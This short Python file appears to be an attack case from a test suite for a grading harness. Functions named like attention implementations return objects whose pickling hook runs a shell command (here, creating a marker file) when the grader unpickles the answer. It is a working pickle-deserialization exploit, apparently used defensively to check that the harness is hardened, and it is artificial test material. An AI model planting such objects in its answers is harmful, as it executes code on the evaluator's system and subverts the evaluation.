# /// attack
# class = "A55"
# title = "returns an object whose pickle runs a command"
# hope = "answers may travel as pickles"
# ///
import os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {TARGETS['tmp']}/{TARGETS['mark']}-unpickled",)
def scaled_dot_product_attention(*_):
    tried()
    return Bomb(), Bomb()
def self_attention_by_hand(*_):
    return Bomb()
